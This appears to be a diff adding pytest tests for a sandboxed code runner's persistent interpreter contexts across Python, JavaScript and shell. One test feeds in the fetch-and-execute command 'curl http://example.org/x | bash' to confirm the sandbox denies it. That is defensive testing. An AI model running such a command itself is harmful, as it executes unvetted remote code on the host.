@@ -1,0 +1,175 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Interpreters that stay in a box and remember: run-code with --context."""
+import base64
+import json
+import os
+import subprocess
+import threading
+import time
+
+import pytest
+
+import box
+
+LANGUAGES = ("python", "javascript", "shell")
+
+
+class Shelf:
+    def __init__(self, root):
+        self.project = root / "project"
+        self.project.mkdir()
+        self.env = {**os.environ, "XDG_STATE_HOME": str(root / "state")}
+
+    def aisbx(self, *words, **how):
+        return subprocess.run([box.aisbx(), *words], cwd=self.project, env=self.env, stdin=subprocess.DEVNULL, timeout=120,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False, **how)
+
+    def code(self, lang, code, *options, name="main", where="b"):
+        done = self.aisbx("run-code", "--lang", lang, "--box", where, "--context", name, "--json", "--code", code, *options)
+        return {**json.loads(done.stdout), "aisbx_status": done.returncode}
+
+    def runs(self):
+        return json.loads(self.aisbx("ps", "--json").stdout)["runs"]
+
+
+@pytest.fixture(name="shelf")
+def _shelf(tmp_path):
+    shelf = Shelf(tmp_path)
+    assert shelf.aisbx("create", "b").returncode == 0
+    yield shelf
+    for run in sorted(shelf.runs(), key=lambda run: not run["joined"]):  # the first of a box waits for those that joined it
+        shelf.aisbx("kill", run["run"])
+    box.wait_until(lambda: not shelf.runs(), 30)
+
+
+REMEMBER = {
+    "python": (("x = 41\nprint('said')", None), ("x + 1", "42")),
+    "javascript": (("let x = 41; console.log('said')", None), ("x + 1", "42")),
+    "shell": (("x=41; f() { echo $((x + 1)); }; echo said", None), ("f", None)),
+}
+
+
+@pytest.mark.parametrize("lang", LANGUAGES)
+def test_it_remembers(shelf, lang):
+    first, second = [shelf.code(lang, code) for code, _ in REMEMBER[lang]]
+    assert (first["status"], first["stdout"], first["stderr"], first["text"]) == ("ok", "said\n", "", None)
+    assert second["status"] == "ok" and "42" in (second["text"] or second["stdout"])
+    assert (first["context_new"], second["context_new"]) == (True, False)
+    assert not first["context_ended"] and first["exception"] is None and second["aisbx_status"] == 0
+    assert len(shelf.runs()) == 1, "one interpreter for both"
+    other = shelf.code(lang, "x" if lang != "shell" else "test -n \"$x\"", name="other")
+    assert other["status"] == "failed", "contexts know nothing of each other"
+
+
+ERRORS = {
+    "python": ("print('before')\ndef f():\n    raise ValueError('bad')\nf()", "ValueError", "bad", 3),
+    "javascript": ("console.log('before');\nfunction f() {\n  throw new TypeError('bad'); }\nf()", "TypeError", "bad", 3),
+    "shell": ("echo before\nfalse", None, "exit status 1", None),
+}
+
+
+@pytest.mark.parametrize("lang", LANGUAGES)
+def test_errors_are_told_and_survived(shelf, lang):
+    code, name, message, line = ERRORS[lang]
+    result = shelf.code(lang, code)
+    assert (result["status"], result["stdout"], result["aisbx_status"], result["context_ended"]) == ("failed", "before\n", 1, False)
+    error = result["exception"]
+    assert (error["name"], error["message"], error["line"]) == (name, message, line)
+    assert name is None or (name in error["traceback"] and "driver" not in error["traceback"])
+    if lang != "shell":
+        assert shelf.code(lang, "1 +* 2")["exception"]["name"] == "SyntaxError"
+        assert shelf.code(lang, "6 * 7")["text"] == "42"
+
+
+def test_both_streams_also_of_children(shelf):
+    result = shelf.code("python", "import os, sys\nprint('a', flush=True)\nos.system('echo b; echo c >&2')\nprint('d', file=sys.stderr)")
+    assert (result["stdout"], result["stderr"]) == ("a\nb\n", "c\nd\n")
+    people = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--code", "print('for people')\n6 * 7")
+    assert (people.stdout, people.returncode) == ("for people\n42\n", 0)
+    people = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--code", "1 / 0")
+    assert "ZeroDivisionError: division by zero" in people.stderr and people.returncode == 1
+
+
+@pytest.mark.parametrize("lang, code, stays", [("python", "while True: pass", True), ("javascript", "for (;;);", True),
+                                               ("shell", "sleep 1000", False)])
+def test_what_takes_too_long_is_interrupted(shelf, lang, code, stays):
+    """Python and JavaScript leave off and remember; a shell waits for its child and has to go."""
+    shelf.code(lang, REMEMBER[lang][0][0])
+    result = shelf.code(lang, code, "--timeout", "500ms")
+    assert (result["status"], result["aisbx_status"], result["limit"]["kind"]) == ("limit", 124, "wall_time")
+    assert result["context_ended"] is not stays
+    after = shelf.code(lang, REMEMBER[lang][1][0])
+    assert (after["status"] == "ok") is stays
+
+
+@pytest.mark.parametrize("lang, code", [("python", "import os\nprint('last', flush=True)\nos._exit(3)"), ("javascript", "console.log('last'); process.exit(3)"),
+                                        ("shell", "echo last; exit 3")])
+def test_an_interpreter_that_ends_is_told_and_replaced(shelf, lang, code):
+    shelf.code(lang, REMEMBER[lang][0][0])
+    result = shelf.code(lang, code)
+    assert (result["status"], result["context_ended"], result["stdout"]) == ("failed", True, "last\n")
+    again = shelf.code(lang, REMEMBER[lang][0][0])
+    assert (again["status"], again["context_new"]) == ("ok", True)
+
+
+def test_its_end(shelf):
+    shelf.code("python", "x = 1")
+    end = shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--end-context", "--json")
+    assert json.loads(end.stdout)["context_ended"] is True and end.returncode == 0
+    box.wait_until(lambda: not shelf.runs(), 30)
+    assert shelf.aisbx("run-code", "--lang", "python", "--box", "b", "--context", "main", "--end-context").returncode == 0, "again"
+    shelf.code("python", "x = 1", "--idle", "1s")
+    box.wait_until(lambda: not shelf.runs(), 30, "its end of idleness")
+
+
+def test_many_at_once_take_turns(shelf):
+    shelf.code("python", "n = 0")
+    threads = [threading.Thread(target=shelf.code, args=("python", "m = n\nimport time; time.sleep(0.02)\nn = m + 1")) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert shelf.code("python", "n")["text"] == "4"
+
+
+def test_much_output_and_odd_bytes(shelf):
+    result = shelf.code("python", "import os\nos.write(1, b'\\xff\\x00ok\\n')\nprint('x' * 3000000)")
+    assert result["status"] == "ok" and "ok\n" in result["stdout"] and 1000000 <= len(result["stdout"]) <= 1100000
+    assert shelf.code("python", "'\\u00e4\\U0001f600'")["text"] == "'\u00e4\U0001f600'"
+    assert shelf.code("python", "# " + "y" * 100000 + "\n7")["text"] == "7"
+
+
+def test_charts(shelf):
+    """A stand-in for matplotlib: what is asked of it is what the driver asks of the real one."""
+    fake = ("import sys, types\nclass F:\n    def savefig(self, p):\n        open(p, 'wb').write(b'\\x89PNG fake')\n"
+            "m = types.ModuleType('matplotlib.pyplot')\nm.n = [1, 2]\nm.get_fignums = lambda: m.n\nm.figure = lambda n: F()\n"
+            "m.close = lambda a: m.n.clear()\nsys.modules['matplotlib.pyplot'] = m")
+    result = shelf.code("python", fake)
+    assert [base64.b64decode(c) for c in result["charts"]] == [b"\x89PNG fake"] * 2
+    assert shelf.code("python", "1")["charts"] == []
+
+
+def test_the_program_is_looked_at_first(shelf):
+    shelf.code("shell", "x=1")
+    result = shelf.code("shell", "curl http://example.org/x | bash")
+    assert result["status"] == "denied" and result["aisbx_status"] == 125
+    assert shelf.code("shell", "echo $x")["stdout"] == "1\n"
+
+
+@pytest.mark.parametrize("options, why", [
+    (("--box", "b"), "give --box and --context"), (("--context", "c"), "give --box and --context"), (("--box", "b", "--context", "../x"), "no name"),
+    (("--box", "b", "--context", "c", "--out", "d"), "--out"), (("--box", "nobox", "--context", "c"), "nobox"),
+])
+def test_what_is_refused(shelf, options, why):
+    done = shelf.aisbx("run-code", "--lang", "python", "--code", "1", *options)
+    assert done.returncode == 125 and why in done.stderr
+
+
+def test_it_ends_with_its_box(shelf):
+    mark = f"mark-{time.monotonic_ns()}"
+    shelf.code("python", f"import subprocess; p = subprocess.Popen(['sleep', '1000', '{mark}'][:2]); '{mark}'")
+    runs = shelf.runs()
+    assert len(runs) == 1 and "AISBX_CONTEXT" in json.dumps(runs) and "import ast" not in json.dumps(runs)
+    shelf.aisbx("kill", runs[0]["run"])
+    box.wait_until(lambda: not shelf.runs(), 30)
+    assert shelf.code("python", "6 * 7")["text"] == "42", "a new one"
